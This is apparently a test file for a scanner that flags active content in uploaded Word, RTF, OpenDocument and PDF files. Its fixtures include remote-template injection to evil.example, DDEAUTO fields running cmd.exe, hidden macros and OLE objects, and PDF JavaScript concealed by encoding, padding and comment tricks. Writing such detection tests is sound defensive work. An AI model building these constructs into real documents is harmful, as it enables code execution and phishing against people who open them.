import { deflateSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { findActiveContent, judgeDocument } from './extract-text.ts'
import { createZip } from './testing/create-zip.ts'

const types = (more = '') =>
  '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  `<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>${more}</Types>`
const docx = (
  body = '<w:p><w:r><w:t>Behavior Technician</w:t></w:r></w:p>',
  more: Record<string, string | Buffer> = {},
) =>
  createZip({
    '[Content_Types].xml': types(),
    'word/document.xml': `<?xml version="1.0"?><w:document xmlns:w="w" xmlns:r="r"><w:body>${body}</w:body></w:document>`,
    ...more,
  })
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const rels = (relationship: string) =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`
const related = (relationship: string, more: Record<string, string | Buffer> = {}) =>
  docx(undefined, { 'word/_rels/document.xml.rels': rels(relationship), ...more })
const template = (relationship: string) => docx(undefined, { 'word/_rels/settings.xml.rels': rels(relationship) })
const remote = `Type="${office}/attachedTemplate" Target="https://evil.example/t.dotm"`
const field = (...codes: string[]) =>
  docx(
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/>' +
      `</w:r>${codes.map((code) => `<w:r><w:instrText>${code}</w:instrText></w:r>`).join('')}<w:r>` +
      '<w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/>' +
      '</w:r></w:p>',
  )
const rtf = (body: string) => Buffer.from(`{\\rtf1\\ansi ${body}}`, 'latin1')
const pdf = (catalog: string, objects: string | Buffer) =>
  Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids ` +
        '[3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n',
      'latin1',
    ),
    Buffer.from(objects),
    Buffer.from('\ntrailer << /Root 1 0 R >>\n%%EOF', 'latin1'),
  ])
const action = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
const objectStream = (padding: string) => {
  const packed = deflateSync(Buffer.from(`8 0 ${action}`))
  return Buffer.concat([
    Buffer.from(
      `7 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${packed.length} ${padding}>>\nstream\n`,
    ),
    packed,
    Buffer.from('\nendstream\nendobj\n'),
  ])
}

const hostile: Record<string, Buffer> = {
  'a remote template': template(`<Relationship Id="a" ${remote} TargetMode="External"/>`),
  'a remote template, its mode first': template(`<Relationship TargetMode="External" Id="a" ${remote}/>`),
  'a remote template in single quotes': template(
    `<Relationship Id="a" ${remote.replaceAll('"', "'")} TargetMode='External'/>`,
  ),
  'a remote template whose mode is an entity': template(`<Relationship Id="a" ${remote} TargetMode="Externa&#108;"/>`),
  'a remote template with blanks at the equals sign': template(
    `<Relationship Id="a" ${remote} TargetMode = "External"/>`,
  ),
  'a remote template in UTF-16': docx(undefined, {
    'word/_rels/settings.xml.rels': Buffer.from(
      `\uFEFF${rels(`<Relationship Id="a" ${remote} TargetMode="External"/>`)}`,
      'utf16le',
    ),
  }),
  'a remote template in UTF-16 without a mark': docx(undefined, {
    'word/_rels/settings.xml.rels': Buffer.from(
      rels(`<Relationship Id="a" ${remote} TargetMode="External"/>`),
      'utf16le',
    ),
  }),
  'a remote template by a prefix': docx(undefined, {
    'word/_rels/settings.xml.rels': `<x:Relationships xmlns:x="r"><x:Relationship Id="a" ${remote} TargetMode="External"/></x:Relationships>`,
  }),
  'relations with entities of their own': docx(undefined, {
    'word/_rels/settings.xml.rels': `<!DOCTYPE r [<!ENTITY e "External">]>${rels(`<Relationship Id="a" ${remote} TargetMode="&e;"/>`)}`,
  }),
  'a template on another machine': template(
    `<Relationship Id="a" Type="${office}/attachedTemplate" Target="file://///evil.example/share/t.dotm" TargetMode="External"/>`,
  ),
  'a field that starts a program': field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '),
  'a field spread over runs': field(' DD', 'EAU', 'TO cmd '),
  'a field by an entity': field(' &#68;DE cmd '),
  'a simple field': docx('<w:p><w:fldSimple w:instr="dde cmd"/></w:p>'),
  'a field whose name is made by another field': docx(
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>' +
      '<w:instrText>QUOTE 68 68 69</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r>' +
      '<w:instrText> cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>',
  ),
  'a field in a footnote': docx(undefined, {
    'word/footnotes.xml': '<w:footnotes xmlns:w="w"><w:fldSimple w:instr="DDEAUTO cmd"/></w:footnotes>',
  }),
  'a picture of a field': field(' INCLUDEPICTURE "https://evil.example/a.png" '),
  'an object under another name': related(`<Relationship Id="a" Type="${office}/oleObject" Target="media/x.dat"/>`, {
    'word/media/x.dat': 'x',
  }),
  'an object by its first bytes': docx(undefined, {
    'word/media/image1.png': Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]),
  }),
  'rich text as a part': docx('<w:altChunk r:id="a"/>', {
    'word/a.rtf': '{\\rtf1{\\object\\objdata 00}}',
    'word/_rels/document.xml.rels': rels(`<Relationship Id="a" Type="${office}/aFChunk" Target="a.rtf"/>`),
  }),
  'a linked picture on another machine': related(
    `<Relationship Id="a" Type="${office}/image" Target="file://///evil.example/share/a.png" TargetMode="External"/>`,
  ),
  'a link to another machine': related(
    `<Relationship Id="a" Type="${office}/hyperlink" Target="\\\\evil.example\\share" TargetMode="External"/>`,
  ),
  'a link that is a script': related(
    `<Relationship Id="a" Type="${office}/hyperlink" Target="javascript:alert(1)" TargetMode="External"/>`,
  ),
  'macros under another name': related(
    '<Relationship Id="a" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="proj.dat"/>',
    { 'word/proj.dat': 'x' },
  ),
  'macros by their content type': docx(undefined, {
    '[Content_Types].xml': types(
      "<Override PartName='/word/proj.dat' ContentType = 'application/vnd.ms-office.vbaProject'/>",
    ),
  }),
  'a document in a document that has macros': related('', {
    'word/embeddings/a.docx': docx(undefined, { 'word/vbaProject.bin': 'x' }),
  }),
  'an OpenDocument text linked to a program': createZip({
    mimetype: 'application/vnd.oasis.opendocument.text',
    'content.xml':
      '<office:document-content xmlns:office="o" xmlns:text="t"><text:dde-connection text:connection-name="a"/></office:document-content>',
  }),
  'an OpenDocument picture elsewhere': createZip({
    mimetype: 'application/vnd.oasis.opendocument.text',
    'content.xml':
      '<office:document-content xmlns:office="o" xmlns:draw="d" xmlns:xlink="x">' +
      '<draw:image xlink:href="https://evil.example/a.png"/></office:document-content>',
  }),
  'RTF with a template': rtf('{\\*\\template http://evil.example/t.dotm}'),
  'RTF with a template on the next line': rtf('{\\*\n\\template http://evil.example/t.dotm}'),
  'RTF with a template that is no option': rtf('{\\template http://evil.example/t.dotm}'),
  'RTF with a template written in codes': rtf("{\\*\\template \\'68ttp://evil.example/t}"),
  'RTF with an object': rtf('{\\object{\\*\\objdata 0105}}'),
  'RTF with a field spread over groups': rtf('{\\field{\\*\\fldinst {\\b DDE}{\\i AUTO} cmd}{\\fldrslt 1}}'),
  'RTF with a field written in codes': rtf("{\\field{\\*\\fldinst \\'44DEAUTO cmd}{\\fldrslt 1}}"),
  'PDF script in a padded object stream': pdf('/OpenAction 8 0 R', objectStream(' '.repeat(3_000))),
  'PDF script between words of a comment': pdf(
    '/OpenAction 8 0 R',
    `% stream\n8 0 obj\n<< /S%x\n/JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n% endstream\n`,
  ),
  'PDF script behind a zero byte': pdf(
    '/OpenAction 8 0 R',
    '8 0 obj\n<< /S\0/JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n',
  ),
  'PDF script in a comment within a string': pdf(
    '/OpenAction 8 0 R',
    '% stream\n8 0 obj\n<< /T (%) /S%/x\n/JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n% endstream\n',
  ),
  'PDF script with its number on another line': pdf('/OpenAction 8 0 R', `8 0\nobj\n${action}\nendobj\n`),
}

test.each(Object.entries(hostile))('%s is found, on the form and in Documents', async (_, bytes) => {
  const judged = await judgeDocument(bytes, 'anybody')
  expect(judged.active).toMatch(/macros|hidden|loads parts|starts a program|script/)
  expect(await findActiveContent(bytes)).toBe(judged.active)
})

const ordinary: Record<string, Buffer> = {
  'links, parts of the usual kinds, and a template on the writer’s own disk': related(
    [
      `<Relationship Id="a" Type="${office}/hyperlink" Target="https://www.linkedin.com/in/x" TargetMode="External"/>`,
      `<Relationship Id="b" Type="${office}/hyperlink" Target="mailto:ana@example.com" TargetMode="External"/>`,
      `<Relationship Id="c" Type="${office}/hyperlink" Target="tel:5125550100" TargetMode="External"/>`,
      `<Relationship Id="d" Type="${office}/hyperlink" Target="linkedin.com/in/x" TargetMode="External"/>`,
      `<Relationship Id="e" Type="${office}/styles" Target="styles.xml"/>`,
      `<Relationship Id="f" Type="${office}/attachedTemplate" Target="file:///C:\\Users\\ana\\Templates\\Resume.dotx" TargetMode="External"/>`,
    ].join(''),
  ),
  'page numbers, links and a table of contents': field(' HYPERLINK "https://example.com" \\h ', ''),
  'a condition with a page number in it': docx(
    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF </w:instrText></w:r><w:r>' +
      '<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r><w:r>' +
      '<w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText> = 1 "a" "b"</w:instrText></w:r><w:r>' +
      '<w:fldChar w:fldCharType="end"/></w:r></w:p>',
  ),
  'words about DDE, templates and scripts': docx(
    '<w:p><w:r><w:t>DDEAUTO, altChunk, INCLUDETEXT, JavaScript</w:t></w:r></w:p>',
  ),
  'RTF with a template of its own, links and the word DDE': rtf(
    '{\\*\\template C:\\\\Users\\\\ana\\\\Normal.dotm}{\\field{\\*\\fldinst HYPERLINK "https://example.com"}{\\fldrslt my page}} DDE at the office',
  ),
  'a PDF with nothing to run': pdf('', ''),
}

test.each(Object.entries(ordinary))('%s is let through', async (_, bytes) => {
  expect((await judgeDocument(bytes, 'own')).active).toBeNull()
  expect(await findActiveContent(bytes)).toBeNull()
})
